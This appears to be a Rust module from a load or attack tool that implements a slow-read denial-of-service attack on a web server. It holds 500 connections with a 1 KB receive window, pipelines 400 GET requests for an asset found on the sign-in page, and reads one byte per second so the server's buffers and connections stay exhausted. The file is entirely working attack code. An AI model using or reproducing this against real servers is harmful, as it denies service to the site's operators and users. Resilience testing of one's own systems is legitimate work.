//! Slow reads: a pile of files is asked for in one go, and the answers are not read.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::{AFTER_FAILURE, Field};

/// Connections held at a time.
const CONNECTIONS: usize = 500;

/// Answers asked for on each: more than the buffers of both kernels hold.
const REQUESTS: usize = 400;

/// A byte is read this often.
const BYTE_EVERY: Duration = Duration::from_secs(1);

/// The least that a kernel gives: the window closes at once.
const WINDOW_BYTES: u32 = 1_024;

pub(super) fn start(tasks: &mut JoinSet<()>, field: &Arc<Field>) {
    for number in 0..CONNECTIONS {
        let field = Arc::clone(field);
        tasks.spawn(async move {
            sleep(Duration::from_millis(2 * number as u64)).await;
            let path = file(&field).await;
            loop {
                field.attempt();
                field.note(connection(&field, &path).await.unwrap_or("cut"));
                sleep(AFTER_FAILURE).await;
            }
        });
    }
}

/// The path of a file that every stranger's page names.
async fn file(field: &Field) -> String {
    let page = field.site.get("/sign-in", "").await;
    let path = page.ok().and_then(|page| page.quoted_after("href=\"/assets/").map(str::to_owned));
    path.map_or("/frontier".into(), |path| format!("/assets/{path}"))
}

async fn connection(field: &Field, path: &str) -> io::Result<&'static str> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(WINDOW_BYTES)?;
    let mut stream = socket.connect(field.site.address).await?;
    let request = format!("GET {path} HTTP/1.1\r\nhost: {}\r\n\r\n", field.site.host).repeat(REQUESTS);
    let (mut reader, mut writer) = stream.split();
    let write = async {
        writer.write_all(request.as_bytes()).await?;
        // What was asked for is asked for; now it is only read.
        std::future::pending::<io::Result<()>>().await
    };
    let read = async {
        loop {
            sleep(BYTE_EVERY).await;
            if reader.read_u8().await.is_err() {
                return Ok("cut");
            }
        }
    };
    tokio::select! {
        _ = write => Ok("cut"),
        end = read => end,
    }
}
